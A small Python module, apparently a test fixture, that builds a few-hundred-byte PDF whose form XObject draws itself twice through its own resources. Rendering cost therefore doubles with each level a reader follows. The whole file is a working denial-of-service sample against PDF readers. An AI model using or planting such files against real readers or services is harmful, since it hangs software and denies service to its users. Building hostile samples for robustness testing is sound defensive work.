"""Small files that are made to do harm."""

_BOX = b"/MediaBox[0 0 595 842]"
_FORM = b"/Resources<</XObject<</Form 5 0 R>>>>"
_OBJECTS = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/Contents 4 0 R" + _BOX + _FORM + b">>",
    b"<</Length 8>>stream\n/Form Do\nendstream",
    b"<</Type/XObject/Subtype/Form/Length 17" + _FORM + b">>stream\n/Form Do /Form Do\nendstream",
)


def doubling() -> bytes:
    """A PDF of a few hundred bytes whose form draws itself twice: drawing it takes 2 to the power
    of the depth to which a reader follows it.
    """
    parts = [b"%PDF-1.7\n"]
    for number, held in enumerate(_OBJECTS, 1):
        parts.append(b"%d 0 obj\n%b\nendobj\n" % (number, held))
    parts.append(b"trailer<</Size 6/Root 1 0 R>>\n%%EOF\n")
    return b"".join(parts)
